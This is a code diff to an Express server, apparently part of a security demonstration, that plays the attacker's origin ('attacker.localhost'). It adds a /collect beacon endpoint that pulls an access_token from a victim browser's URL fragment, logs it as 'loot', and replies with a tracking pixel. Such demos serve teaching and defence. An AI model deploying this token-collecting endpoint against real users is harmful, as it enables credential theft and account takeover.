@@ -12,7 +12,9 @@ export interface Loot {
 }
 
 /** `attacker.localhost`: where stolen data is sent and shown. */
-export function createAttackerOrigin(loot: Loot[]): Express {
+const PIXEL = Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'base64');
+
+export function createAttackerOrigin(loot: Loot[], now: () => number): Express {
   const app = express();
   app.disable('x-powered-by');
   app.use(securityHeaders());
@@ -27,6 +29,15 @@ export function createAttackerOrigin(loot: Loot[]): Express {
         (rows ? `<ul>${rows}</ul>` : '<p>Nothing stolen yet.</p>') +
         `</body></html>`,
     );
+  });
+  // The injected script's beacon: the victim's browser delivers the URL fragment here.
+  app.get('/collect', (req, res) => {
+    const fragment = typeof req.query.fragment === 'string' ? req.query.fragment : '';
+    const from = typeof req.query.from === 'string' ? req.query.from : undefined;
+    const token = new URLSearchParams(fragment).get('access_token');
+    if (token) loot.push({ time: now(), kind: 'access token (from the URL fragment)', value: token, ...(from && { from }) });
+    res.setHeader('Cache-Control', 'no-store');
+    res.type('image/gif').send(PIXEL);
   });
   app.get('/api/loot', (_req, res) => {
     res.json({ loot });
